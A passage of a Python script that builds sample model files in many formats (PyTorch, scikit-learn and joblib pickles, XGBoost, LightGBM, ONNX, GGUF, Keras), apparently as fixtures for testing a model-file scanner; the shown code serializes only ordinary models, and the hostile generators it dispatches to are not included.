    save("views.pt", {"t": base.t(), "slice": base[1:3, ::2], "empty": base[:0], "sparse": base.to_sparse()})
    save("parameter.pt", torch.nn.Parameter(base))
    save("quantized.pt", torch.quantize_per_tensor(base, 0.1, 0, torch.quint8))
    save("pytorch_model.bin", collections.OrderedDict(a=base, b=base[0]))
    save("legacy.pt", {"w": base}, _use_new_zipfile_serialization=False)


def sklearns(out):
    import joblib
    import numpy as np
    from sklearn.utils import all_estimators
    x = np.random.RandomState(0).rand(40, 4)
    y = (x[:, 0] > 0.5).astype(int)
    made = 0
    for name, cls in all_estimators():
        try:
            estimator = cls().fit(x, y)
            data = pickle.dumps(estimator)
        except Exception:
            continue
        out.add("sklearn", name + ".pkl", data)
        buffer = io.BytesIO()
        joblib.dump(estimator, buffer)
        out.add("joblib", name + ".joblib", buffer.getvalue())
        made += 1
        if made == 1:
            for compress in ("zlib", "gzip", "bz2", "xz"):
                buffer = io.BytesIO()
                joblib.dump(estimator, buffer, compress=(compress, 3))
                out.add("joblib", compress + ".joblib", buffer.getvalue())
        if made <= 10:
            try:
                import skops.io
                out.add("skops", name + ".skops", skops.io.dumps(estimator))
            except ImportError:
                pass
        if made == 60:
            break


def boosters(out):
    import numpy as np
    import lightgbm
    import xgboost
    x, y = np.random.rand(40, 4), np.arange(40) % 2
    for depth in range(1, 6):
        model = xgboost.XGBClassifier(n_estimators=3, max_depth=depth).fit(x, y)
        for form in ("json", "ubj"):
            out.add("xgboost", "m." + form, bytes(model.get_booster().save_raw(form)))
        out.add("lightgbm", "m.txt", lightgbm.LGBMClassifier(n_estimators=3, max_depth=depth, verbose=-1).fit(x, y).booster_.model_to_string())


def exports(out):
    import numpy as np
    import onnx as o
    from onnx import TensorProto, helper, numpy_helper
    for at in range(1, 11):
        w = numpy_helper.from_array(np.random.rand(at, 3).astype("f4"), "w")
        node = helper.make_node("MatMul", ["x", "w"], ["y"])
        graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, at])],
                                  [helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 3])], [w])
        out.add("onnx", "m.onnx", helper.make_model(graph).SerializeToString())
    import gguf as g
    with tempfile.TemporaryDirectory() as directory:
        for at in range(1, 9):
            path = pathlib.Path(directory) / "m.gguf"
            writer = g.GGUFWriter(path, "llama")
            writer.add_block_count(at)
            writer.add_chat_template("{% for m in messages %}{{ m['content'] }}{% endfor %}")
            writer.add_tensor("w", np.random.rand(at, 32).astype("f4"))
            writer.write_header_to_file()
            writer.write_kv_data_to_file()
            writer.write_tensors_to_file()
            writer.close()
            out.add("gguf", "m.gguf", path.read_bytes())


def kerases(out):
    import keras
    with tempfile.TemporaryDirectory() as directory:
        for at in range(1, 7):
            model = keras.Sequential([keras.layers.Input((4,)), keras.layers.Dense(at, activation="relu"), keras.layers.Dense(1)])
            path = pathlib.Path(directory) / "m.keras"
            model.save(path)
            out.add("keras", "m.keras", path.read_bytes())


def main():
    what, directory = sys.argv[1:]
    warnings.simplefilter("ignore")
    out = Out(directory)
    if what == "hostile":
        for make in (pickles, bombs, containers, formats, others):
            make(out)
        rare.hostile(out, sys.modules[__name__])
    elif what == "torch":
        torches(out)
    else:
        benign(out)
        rare.benign(out)
    print(out.count)


if __name__ == "__main__":
    main()
